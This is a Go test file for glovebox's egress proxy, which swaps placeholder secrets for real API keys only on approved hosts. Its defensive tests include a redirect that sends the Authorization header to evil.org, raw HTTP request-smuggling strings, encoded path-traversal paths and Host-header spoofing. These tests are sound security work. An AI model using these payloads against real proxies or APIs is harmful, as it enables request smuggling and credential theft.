package egress

import (
	"bufio"
	"bytes"
	"compress/gzip"
	"context"
	"crypto/tls"
	"crypto/x509"
	"encoding/base64"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/glovebox-dev/glovebox/api"
	"github.com/glovebox-dev/glovebox/internal/localca"
	"github.com/glovebox-dev/glovebox/internal/secret"
	"github.com/glovebox-dev/glovebox/internal/withheld"
)

const (
	heldValue       = "sk-live-4f9a8b7c6d5e4321"
	heldPlaceholder = "glovebox-abcdefghijklmnop"
	heldHost        = "api.example.com"
)

// holder is a world with a host that secrets go to, at heldHost.
type holder struct {
	*world
	roots *x509.CertPool
	set   *withheld.Set
}

func newHolder(t *testing.T, handler http.HandlerFunc, ref api.SecretRef) *holder {
	t.Helper()
	h := &holder{world: newWorld(), roots: x509.NewCertPool()}
	h.set = setOf(t, "this cell", ref)
	h.httpsAt(t, heldHost, "1.2.3.4", handler)
	return h
}

func setOf(t *testing.T, key string, ref api.SecretRef) *withheld.Set {
	t.Helper()
	return setWith(t, key, heldValue, ref)
}

func setWith(t *testing.T, key, value string, ref api.SecretRef) *withheld.Set {
	t.Helper()
	ref.Name = "key"
	if ref.Hosts == nil {
		ref.Hosts = []string{heldHost}
	}
	if err := withheld.Check("secrets[0]", ref); err != nil {
		t.Fatal(err)
	}
	set, err := withheld.New([]withheld.Value{{Ref: ref, Value: value, Placeholder: heldPlaceholder}}, []byte(key), time.Now().Add(time.Hour),
		secret.NewRedactor(append(withheld.Parts(ref, []byte(value)), []byte(value))...))
	if err != nil {
		t.Fatal(err)
	}
	return set
}

// httpsAt makes name a host at addr, by HTTP/2 too, whose certificate the host trusts.
func (h *holder) httpsAt(t *testing.T, name, addr string, handler http.HandlerFunc) *httptest.Server {
	t.Helper()
	ca, err := localca.ForHosts([]byte("the web"), []string{"example.com", "evil.org"}, func(string) bool { return true }, time.Now().Add(time.Hour))
	if err != nil {
		t.Fatal(err)
	}
	h.roots.AppendCertsFromPEM(ca.PEM())
	server := httptest.NewUnstartedServer(handler)
	server.TLS = &tls.Config{GetCertificate: func(*tls.ClientHelloInfo) (*tls.Certificate, error) { return ca.Certificate(name) }}
	server.EnableHTTP2 = true
	server.StartTLS()
	t.Cleanup(server.Close)
	h.names[name] = []netip.Addr{netip.MustParseAddr(addr)}
	h.servers[addr+":443"] = server.Listener.Addr().String()
	return server
}

// program is a client in the cell, which trusts the authority of the set.
func (h *holder) program(t *testing.T, policy api.Network, h2 bool) *http.Client {
	t.Helper()
	options := h.options()
	options.Withheld, options.Roots = h.set, h.roots
	pool := h.roots.Clone()
	pool.AppendCertsFromPEM(h.set.Certificate())
	client := h.cellWith(t, policy, options).client()
	transport := client.Transport.(*http.Transport)
	transport.TLSClientConfig, transport.ForceAttemptHTTP2 = &tls.Config{RootCAs: pool}, h2
	client.CheckRedirect = func(*http.Request, []*http.Request) error { return nil }
	return client
}

func fetch(t *testing.T, client *http.Client, req *http.Request) (*http.Response, string) {
	t.Helper()
	resp, err := client.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	body, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	return resp, string(body)
}

func request(t *testing.T, method, address string, body io.Reader, headers ...string) *http.Request {
	t.Helper()
	req, err := http.NewRequest(method, address, body)
	if err != nil {
		t.Fatal(err)
	}
	for i := 0; i < len(headers); i += 2 {
		req.Header.Add(headers[i], headers[i+1])
	}
	return req
}

// seenBy remembers the last request that a host got.
func seenBy(got **http.Request, body *string) http.HandlerFunc {
	return func(w http.ResponseWriter, r *http.Request) {
		*got = r
		text, _ := io.ReadAll(r.Body)
		*body = string(text)
		io.WriteString(w, "ok "+r.Proto)
	}
}

func TestValuesGoToTheirHost(t *testing.T) {
	basic := func(text string) string { return "Basic " + base64.StdEncoding.EncodeToString([]byte(text)) }
	for _, c := range []struct {
		name, inject  string
		headers       []string
		header, want  string
		query, inBody string
	}{
		{"placeholder", "", []string{"Authorization", "Bearer " + heldPlaceholder}, "Authorization", "Bearer " + heldValue, "", ""},
		{"any header", "placeholder", []string{"X-Api-Key", heldPlaceholder}, "X-Api-Key", heldValue, "", ""},
		{"basic", "", []string{"Authorization", basic("user:" + heldPlaceholder)}, "Authorization", basic("user:" + heldValue), "", ""},
		{"not asked for", "", nil, "Authorization", "", "", ""},
		{"header", "header:authorization: Bearer {}", nil, "Authorization", "Bearer " + heldValue, "", ""},
		{"in place of others", "header:Authorization: Bearer {}", []string{"Authorization", "mine", "authorization", "too"}, "Authorization", "Bearer " + heldValue, "", ""},
		{"query", "query:key={}", nil, "Authorization", "", "a=1&key=" + heldValue, ""},
		{"body and query stay", "", []string{"X-Key", heldPlaceholder}, "X-Key", heldValue, "a=1", heldPlaceholder},
	} {
		for _, h2 := range []bool{false, true} {
			t.Run(fmt.Sprintf("%s %v", c.name, h2), func(t *testing.T) {
				var got *http.Request
				var body string
				h := newHolder(t, seenBy(&got, &body), api.SecretRef{Inject: c.inject})
				client := h.program(t, allow(heldHost), h2)
				resp, text := fetch(t, client, request(t, "POST", "https://"+heldHost+"/v1/x?a=1", strings.NewReader(heldPlaceholder), c.headers...))
				if resp.StatusCode != 200 || text != "ok HTTP/2.0" || resp.ProtoMajor == 2 != h2 {
					t.Fatalf("%d by %s: %s", resp.StatusCode, resp.Proto, text)
				}
				if values := got.Header.Values(c.header); strings.Join(values, ", ") != c.want {
					t.Errorf("%s is %q", c.header, values)
				}
				if c.query != "" && got.URL.RawQuery != c.query {
					t.Errorf("the query is %q", got.URL.RawQuery)
				}
				if body != heldPlaceholder || got.Host != heldHost {
					t.Errorf("the body is %q, the host %q", body, got.Host)
				}
			})
		}
	}
}

// An answer has no value in it, whatever form it comes in (attack S10).
func TestValuesAreTakenOutOfAnswers(t *testing.T) {
	zip := func(text string) []byte {
		var b bytes.Buffer
		w := gzip.NewWriter(&b)
		io.WriteString(w, text)
		w.Close()
		return b.Bytes()
	}
	for name, handler := range map[string]http.HandlerFunc{
		"body":   func(w http.ResponseWriter, r *http.Request) { fmt.Fprint(w, r.Header) },
		"header": func(w http.ResponseWriter, r *http.Request) { w.Header()["X-Echo"] = r.Header["Authorization"] },
		"name of a header": func(w http.ResponseWriter, r *http.Request) {
			w.Header()[strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer ")] = []string{"x"}
		},
		"trailer": func(w http.ResponseWriter, r *http.Request) {
			io.WriteString(w, "x")
			w.Header().Set(http.TrailerPrefix+"X-Echo", r.Header.Get("Authorization"))
		},
		"early hints": func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Link", r.Header.Get("Authorization"))
			w.WriteHeader(http.StatusEarlyHints)
			w.Header().Del("Link")
		},
		"redirect": func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Location", "https://evil.org/?k="+url.QueryEscape(r.Header.Get("Authorization")))
			w.WriteHeader(http.StatusFound)
		},
		"gzip": func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Content-Encoding", "gzip")
			w.Write(zip(r.Header.Get("Authorization")))
		},
		"pieces": func(w http.ResponseWriter, r *http.Request) {
			for _, c := range []byte("x" + r.Header.Get("Authorization")) {
				w.Write([]byte{c})
				w.(http.Flusher).Flush()
			}
		},
		"base64": func(w http.ResponseWriter, r *http.Request) {
			io.WriteString(w, base64.StdEncoding.EncodeToString([]byte("x"+r.Header.Get("Authorization"))))
		},
		"range": func(w http.ResponseWriter, r *http.Request) {
			http.ServeContent(w, r, "x.txt", time.Time{}, strings.NewReader(r.Header.Get("Authorization")))
		},
		"brotli": func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Content-Encoding", "br")
			io.WriteString(w, r.Header.Get("Authorization"))
		},
	} {
		for _, h2 := range []bool{false, true} {
			t.Run(fmt.Sprintf("%s %v", name, h2), func(t *testing.T) {
				h := newHolder(t, handler, api.SecretRef{Inject: "header:Authorization: Bearer {}"})
				client := h.program(t, allow(heldHost), h2)
				client.CheckRedirect = func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }
				resp, body := fetch(t, client, request(t, "GET", "https://"+heldHost+"/", nil, "Range", "bytes=7-20", "Accept-Encoding", "gzip, br"))
				all := fmt.Sprint(resp.Header, resp.Trailer, body)
				for _, form := range []string{heldValue[5:], base64.RawStdEncoding.EncodeToString([]byte("xBearer " + heldValue))[12:]} {
					if strings.Contains(all, form) {
						t.Errorf("the answer has %s: %s", form, all)
					}
				}
				if name == "brotli" && resp.StatusCode != 502 {
					t.Errorf("what nobody can read passed: %d", resp.StatusCode)
				}
			})
		}
	}
}

func TestHeldRequestsAreChecked(t *testing.T) {
	for _, c := range []struct {
		name     string
		ref      api.SecretRef
		method   string
		path     string
		body     string
		answer   int // bytes
		want     int
		mentions string
	}{
		{"allowed", api.SecretRef{Allow: []string{"GET /v1/*"}}, "GET", "/v1/models", "", 0, 200, ""},
		{"method", api.SecretRef{Allow: []string{"GET /v1/*"}}, "POST", "/v1/models", "", 0, 403, "only GET /v1/*"},
		{"path", api.SecretRef{Allow: []string{"GET /v1/*", "POST /v1/chat"}}, "POST", "/v2/chat", "", 0, 403, "POST /v2/chat is not allowed"},
		{"dots", api.SecretRef{Allow: []string{"GET /v1/*"}}, "GET", "/v1/../admin", "", 0, 403, "plainly"},
		{"encoded dots", api.SecretRef{Allow: []string{"GET /v1/*"}}, "GET", "/v1/%2e%2e/admin", "", 0, 403, "plainly"},
		{"encoded slash", api.SecretRef{Allow: []string{"GET /v1/*"}}, "GET", "/v1/..%2fadmin", "", 0, 403, "plainly"},
		{"twice encoded", api.SecretRef{Allow: []string{"GET /v1/*"}}, "GET", "/v1/%252e%252e/admin", "", 0, 403, "plainly"},
		{"small request", api.SecretRef{MaxRequest: 10}, "POST", "/", "0123456789", 0, 200, ""},
		{"large request", api.SecretRef{MaxRequest: 10}, "POST", "/", "0123456789a", 0, 403, "larger than the 10 bytes"},
		{"large answer", api.SecretRef{MaxResponse: 10}, "GET", "/", "", 11, 403, "larger than the 10 bytes"},
	} {
		t.Run(c.name, func(t *testing.T) {
			h := newHolder(t, func(w http.ResponseWriter, r *http.Request) {
				io.Copy(io.Discard, r.Body)
				io.WriteString(w, strings.Repeat("x", c.answer))
			}, c.ref)
			client := h.program(t, allow(heldHost), false)
			resp, body := fetch(t, client, request(t, c.method, "https://"+heldHost+c.path, strings.NewReader(c.body), "X-Key", heldPlaceholder))
			if resp.StatusCode != c.want || !strings.Contains(body, c.mentions) {
				t.Errorf("%d %s", resp.StatusCode, body)
			}
			line := h.waitForAudit(t, 1)[0]
			if line.Method != c.method || line.Status != c.want || line.Allowed != (c.want == 200) || line.Host != heldHost || line.Path == "" {
				t.Errorf("audit %+v", line)
			}
			if c.want == 200 && (len(line.Secrets) != 1 || line.Secrets[0] != "key" || line.BytesOut != int64(len(c.body)) || line.Address != "1.2.3.4:443") {
				t.Errorf("audit %+v", line)
			}
		})
	}
}

// A streamed body that grows beyond its bound is cut.
func TestStreamsAreBounded(t *testing.T) {
	h := newHolder(t, func(w http.ResponseWriter, r *http.Request) {
		for range 100 {
			io.WriteString(w, "0123456789")
			w.(http.Flusher).Flush()
		}
	}, api.SecretRef{MaxResponse: 100})
	resp, err := h.program(t, allow(heldHost), false).Get("https://" + heldHost + "/")
	if err == nil {
		defer resp.Body.Close()
		if got, err := io.ReadAll(resp.Body); err == nil || len(got) > 100 {
			t.Errorf("%d bytes came, %v", len(got), err)
		}
	}
	if line := h.waitForAudit(t, 1)[0]; !strings.Contains(line.Reason, "larger") {
		t.Errorf("audit %+v", line)
	}
}

// A request to another host goes as the program made it (attack S02).
func TestPlaceholdersGoElsewhereAsTheyAre(t *testing.T) {
	var got *http.Request
	var body string
	h := newHolder(t, seenBy(new(*http.Request), new(string)), api.SecretRef{})
	h.httpsAt(t, "www.evil.org", "5.6.7.8", seenBy(&got, &body))
	h.serve(t, "plain.evil.org", "5.6.7.9", seenBy(&got, &body))
	client := h.program(t, public, true)
	for _, address := range []string{"https://www.evil.org/", "http://plain.evil.org/"} {
		fetch(t, client, request(t, "POST", address+"?k="+heldPlaceholder, strings.NewReader(heldPlaceholder), "Authorization", heldPlaceholder))
		if got.Header.Get("Authorization") != heldPlaceholder || body != heldPlaceholder || got.URL.Query().Get("k") != heldPlaceholder {
			t.Errorf("%s got %v %s", address, got.Header, body)
		}
	}
	resp, text := fetch(t, client, request(t, "GET", "http://"+heldHost+"/", nil, "Authorization", heldPlaceholder))
	if resp.StatusCode != 403 || !strings.Contains(text, "https only") {
		t.Errorf("without TLS: %d %s", resp.StatusCode, text)
	}
}

// A redirect is followed by the program, with what the program has (attack S11).
func TestRedirectsCarryThePlaceholder(t *testing.T) {
	var got *http.Request
	h := newHolder(t, func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, "https://www.evil.org/", http.StatusTemporaryRedirect)
	}, api.SecretRef{})
	h.httpsAt(t, "www.evil.org", "5.6.7.8", seenBy(&got, new(string)))
	fetch(t, h.program(t, public, true), request(t, "GET", "https://"+heldHost+"/", nil, "X-Key", heldPlaceholder))
	if got == nil || got.Header.Get("X-Key") != heldPlaceholder {
		t.Errorf("the other host got %v", got)
	}
}

// A request is for the host whose name the TLS has, by every protocol (attack S11).
func TestRequestsAreForTheHostOfTheirConnection(t *testing.T) {
	calls := 0
	h := newHolder(t, func(http.ResponseWriter, *http.Request) { calls++ }, api.SecretRef{Inject: "header:X-Key: {}"})
	for _, h2 := range []bool{false, true} {
		for _, host := range []string{"www.evil.org", heldHost + ":444", "evil." + heldHost, "1.2.3.4"} {
			req := request(t, "GET", "https://"+heldHost+"/", nil)
			req.Host = host
			resp, body := fetch(t, h.program(t, public, h2), req)
			if resp.StatusCode == 200 || calls > 0 {
				t.Errorf("%s by %s: %d %s", host, resp.Proto, resp.StatusCode, body)
			}
		}
	}
}

// tunnel is a connection of the program with TLS for a name, inside of CONNECT to.
func (h *holder) tunnel(t *testing.T, policy api.Network, to, name string, trusted []byte) (*tls.Conn, error) {
	t.Helper()
	options := h.options()
	options.Withheld, options.Roots = h.set, h.roots
	conn, _, status := h.cellWith(t, policy, options).connect(to)
	if !strings.HasPrefix(status, "200") {
		return nil, fmt.Errorf("refused: %s", status)
	}
	pool := x509.NewCertPool()
	pool.AppendCertsFromPEM(trusted)
	secured := tls.Client(conn, &tls.Config{ServerName: name, RootCAs: pool})
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	defer cancel()
	return secured, secured.HandshakeContext(ctx)
}

// An authority is for one cell and its hosts (attack S12).
func TestAuthorityIsOfOneCell(t *testing.T) {
	h := newHolder(t, func(http.ResponseWriter, *http.Request) {}, api.SecretRef{})
	if _, err := h.tunnel(t, allow(heldHost), heldHost+":443", heldHost, h.set.Certificate()); err != nil {
		t.Error(err)
	}
	if _, err := h.tunnel(t, allow(heldHost), heldHost+":443", heldHost, setOf(t, "another cell", api.SecretRef{}).Certificate()); err == nil {
		t.Error("a program trusts the authority of another cell")
	}
	for _, c := range [][2]string{{heldHost + ":443", "www.evil.org"}, {"1.2.3.4:443", heldHost}, {heldHost + ":443", ""}} {
		if _, err := h.tunnel(t, public, c[0], c[1], h.set.Certificate()); err == nil {
			t.Errorf("CONNECT %s with TLS for %q has a certificate of the cell", c[0], c[1])
		}
	}
}

// Smuggled requests and headers reach the host as one request, or not at all (attack S11).
func TestHeldRequestsAreNotSmuggled(t *testing.T) {
	for name, raw := range map[string]string{
		"two lengths":        "POST / HTTP/1.1\r\nHost: " + heldHost + "\r\nContent-Length: 5\r\nContent-Length: 0\r\n\r\nGET /admin HTTP/1.1\r\nHost: x\r\n\r\n",
		"length and chunks":  "POST / HTTP/1.1\r\nHost: " + heldHost + "\r\nContent-Length: 60\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n0\r\n\r\nGET /admin HTTP/1.1\r\nHost: " + heldHost + "\r\n\r\n",
		"odd chunks":         "POST / HTTP/1.1\r\nHost: " + heldHost + "\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\nGET /admin HTTP/1.1\r\nHost: x\r\n\r\n",
		"two hosts":          "GET / HTTP/1.1\r\nHost: " + heldHost + "\r\nHost: www.evil.org\r\n\r\n",
		"absolute":           "GET https://www.evil.org/ HTTP/1.1\r\nHost: " + heldHost + "\r\n\r\n",
		"folded":             "GET / HTTP/1.1\r\nHost: " + heldHost + "\r\nX-A: 1\r\n X-Key: 2\r\n\r\n",
		"bare line":          "GET / HTTP/1.1\r\nHost: " + heldHost + "\r\nX-A: 1\rGET /admin HTTP/1.1\r\n\r\n",
		"space before colon": "GET / HTTP/1.1\r\nHost: " + heldHost + "\r\nTransfer-Encoding : chunked\r\n\r\n",
		"hop by hop":         "GET / HTTP/1.1\r\nHost: " + heldHost + "\r\nConnection: close, x-key\r\n\r\n",
		"connect":            "CONNECT www.evil.org:443 HTTP/1.1\r\nHost: www.evil.org:443\r\n\r\n",
	} {
		t.Run(name, func(t *testing.T) {
			var paths []string
			keys := 0
			h := newHolder(t, func(w http.ResponseWriter, r *http.Request) {
				paths = append(paths, r.URL.Path)
				if r.Header.Get("X-Key") == heldValue && len(r.Header.Values("X-Key")) == 1 {
					keys++
				}
				w.Header().Set("Connection", "close")
			}, api.SecretRef{Inject: "header:X-Key: {}", Allow: []string{"* /"}})
			conn, err := h.tunnel(t, public, heldHost+":443", heldHost, h.set.Certificate())
			if err != nil {
				t.Fatal(err)
			}
			io.WriteString(conn, raw)
			conn.SetReadDeadline(time.Now().Add(20 * time.Second))
			resp, err := http.ReadResponse(bufio.NewReader(conn), nil)
			if err != nil {
				t.Fatal(err)
			}
			resp.Body.Close()
			if len(paths) > 1 || keys != len(paths) || len(paths) == 1 && paths[0] != "/" {
				t.Errorf("the host got %q, %d of them with the value", paths, keys)
			}
		})
	}
}

// A host must prove who it is before it gets a value (attack S13): the name may lead
// anywhere.
func TestHostsProveWhoTheyAre(t *testing.T) {
	calls := 0
	for name, change := range map[string]func(h *holder){
		"unknown authority": func(h *holder) { h.roots = x509.NewCertPool() },
		"another name": func(h *holder) {
			h.httpsAt(t, "www.evil.org", "6.6.6.6", func(http.ResponseWriter, *http.Request) { calls++ })
			h.names[heldHost] = []netip.Addr{netip.MustParseAddr("6.6.6.6")}
		},
		"private address": func(h *holder) { h.names[heldHost] = []netip.Addr{netip.MustParseAddr("10.0.0.1")} },
		"the cell's own authority": func(h *holder) {
			h.roots = x509.NewCertPool()
			h.roots.AppendCertsFromPEM(setOf(t, "another cell", api.SecretRef{}).Certificate())
		},
	} {
		t.Run(name, func(t *testing.T) {
			h := newHolder(t, func(http.ResponseWriter, *http.Request) { calls++ }, api.SecretRef{Inject: "header:X-Key: {}"})
			change(h)
			resp, body := fetch(t, h.program(t, allow(heldHost), true), request(t, "GET", "https://"+heldHost+"/", nil))
			if calls > 0 || resp.StatusCode < 400 {
				t.Errorf("%d %s", resp.StatusCode, body)
			}
			if line := h.waitForAudit(t, 1)[0]; line.Reason == "" || line.Status != resp.StatusCode {
				t.Errorf("audit %+v", line)
			}
		})
	}
}

// The network of the run decides first.
func TestHeldHostsNeedTheNetwork(t *testing.T) {
	h := newHolder(t, func(http.ResponseWriter, *http.Request) {}, api.SecretRef{})
	if _, err := h.tunnel(t, allow("other.org"), heldHost+":443", heldHost, h.set.Certificate()); err == nil || !strings.Contains(err.Error(), "403") {
		t.Errorf("got %v", err)
	}
}

// A value goes without TLS only where the task says so.
func TestValuesByPlainHTTP(t *testing.T) {
	var got *http.Request
	h := newHolder(t, nil, api.SecretRef{Hosts: []string{"http://plain.example.com"}, Allow: []string{"GET /v1/*"}})
	h.serve(t, "plain.example.com", "5.6.7.9", func(w http.ResponseWriter, r *http.Request) {
		got = r
		io.WriteString(w, "it was "+r.Header.Get("X-Key"))
	})
	client := h.program(t, allow("plain.example.com"), false)
	resp, body := fetch(t, client, request(t, "GET", "http://plain.example.com/v1/x", nil, "X-Key", heldPlaceholder))
	if got.Header.Get("X-Key") != heldValue || body != "it was "+strings.Repeat("*", len(heldValue)) || resp.StatusCode != 200 {
		t.Errorf("%v, then %d %s", got.Header, resp.StatusCode, body)
	}
	if resp, body := fetch(t, client, request(t, "GET", "http://plain.example.com/v2", nil)); resp.StatusCode != 403 || !strings.Contains(body, "not allowed") {
		t.Errorf("%d %s", resp.StatusCode, body)
	}
	if lines := h.waitForAudit(t, 2); lines[0].Status != 200 || lines[0].Secrets == nil || lines[1].Allowed {
		t.Errorf("audit %+v", lines)
	}
}

// An event reaches the program before the next one is made.
func TestEventsStream(t *testing.T) {
	next := make(chan bool)
	h := newHolder(t, func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/event-stream")
		for i := range 3 {
			fmt.Fprintf(w, "data: %d %s\n\n", i, r.Header.Get("X-Key"))
			w.(http.Flusher).Flush()
			<-next
		}
	}, api.SecretRef{})
	for _, h2 := range []bool{false, true} {
		req := request(t, "GET", "https://"+heldHost+"/", nil, "X-Key", heldPlaceholder)
		resp, err := h.program(t, allow(heldHost), h2).Do(req)
		if err != nil {
			t.Fatal(err)
		}
		lines := bufio.NewScanner(resp.Body)
		for i := range 3 {
			if lines.Scan(); lines.Text() != fmt.Sprintf("data: %d %s", i, strings.Repeat("*", len(heldValue))) {
				t.Errorf("got %q", lines.Text())
			}
			lines.Scan()
			next <- true
		}
		resp.Body.Close()
	}
}

// gRPC is streams both ways with trailers at the end.
func TestBothWaysAtOnce(t *testing.T) {
	h := newHolder(t, func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/grpc")
		w.Header().Set("Trailer", "Grpc-Status")
		w.WriteHeader(200)
		w.(http.Flusher).Flush()
		buffer := make([]byte, 5)
		for {
			if _, err := io.ReadFull(r.Body, buffer); err != nil {
				break
			}
			w.Write(append(buffer, r.Header.Get("Authorization")...))
			w.(http.Flusher).Flush()
		}
		w.Header().Set("Grpc-Status", "0")
	}, api.SecretRef{})
	in, out := io.Pipe()
	resp, err := h.program(t, allow(heldHost), true).Do(request(t, "POST", "https://"+heldHost+"/s.S/M", in, "Authorization", heldPlaceholder, "Te", "trailers", "Content-Type", "application/grpc"))
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	for i := range 3 {
		fmt.Fprintf(out, "\x00\x00\x00\x00%d", i)
		got := make([]byte, 5+len(heldValue))
		if _, err := io.ReadFull(resp.Body, got); err != nil || got[4] != byte('0'+i) || strings.Trim(string(got[5:]), "*") != "" {
			t.Fatalf("%q %v", got, err)
		}
	}
	out.Close()
	if _, err := io.ReadAll(resp.Body); err != nil || resp.Trailer.Get("Grpc-Status") != "0" {
		t.Errorf("%v, trailers %v", err, resp.Trailer)
	}
}

// A connection that becomes a WebSocket has the value in its handshake, and in no frame.
func TestUpgrade(t *testing.T) {
	h := newHolder(t, func(w http.ResponseWriter, r *http.Request) {
		if r.Header.Get("Sec-Websocket-Extensions") != "" || r.ProtoMajor != 1 {
			http.Error(w, "compressed", 400)
			return
		}
		conn, rw, _ := http.NewResponseController(w).Hijack()
		defer conn.Close()
		fmt.Fprintf(rw, "HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nX-Echo: %s\r\n\r\n", r.Header.Get("Authorization"))
		rw.Flush()
		line, _ := rw.ReadString('\n')
		fmt.Fprintf(rw, "%s%s\n", line, r.Header.Get("Authorization"))
		rw.Flush()
	}, api.SecretRef{Inject: "header:Authorization: Bearer {}"})
	conn, err := h.tunnel(t, allow(heldHost), heldHost+":443", heldHost, h.set.Certificate())
	if err != nil {
		t.Fatal(err)
	}
	fmt.Fprintf(conn, "GET /ws HTTP/1.1\r\nHost: %s\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Extensions: permessage-deflate\r\n\r\n", heldHost)
	r := bufio.NewReader(conn)
	resp, err := http.ReadResponse(r, nil)
	if err != nil || resp.StatusCode != 101 {
		t.Fatal(resp, err)
	}
	masked := "Bearer " + strings.Repeat("*", len(heldValue))
	if resp.Header.Get("X-Echo") != masked {
		t.Errorf("headers %v", resp.Header)
	}
	io.WriteString(conn, "hello\n")
	conn.SetReadDeadline(time.Now().Add(20 * time.Second))
	all, _ := io.ReadAll(r)
	if string(all) != "hello\n"+masked+"\n" {
		t.Errorf("got %q", all)
	}
	if line := h.waitForAudit(t, 1)[0]; line.Status != 101 || line.BytesOut != 6 {
		t.Errorf("audit %+v", line)
	}
}

// The quota of the run counts what goes through.
func TestHeldBytesAreCharged(t *testing.T) {
	h := newHolder(t, func(w http.ResponseWriter, r *http.Request) { w.Write(make([]byte, 1<<20)) }, api.SecretRef{})
	options := h.options()
	options.Withheld, options.Roots, options.Quota = h.set, h.roots, 64<<10
	client := h.cellWith(t, allow(heldHost), options).client()
	pool := x509.NewCertPool()
	pool.AppendCertsFromPEM(h.set.Certificate())
	client.Transport.(*http.Transport).TLSClientConfig = &tls.Config{RootCAs: pool}
	resp, err := client.Get("https://" + heldHost + "/")
	if err == nil {
		defer resp.Body.Close()
		if _, err = io.ReadAll(resp.Body); err == nil {
			t.Error("more than the quota came")
		}
	}
}
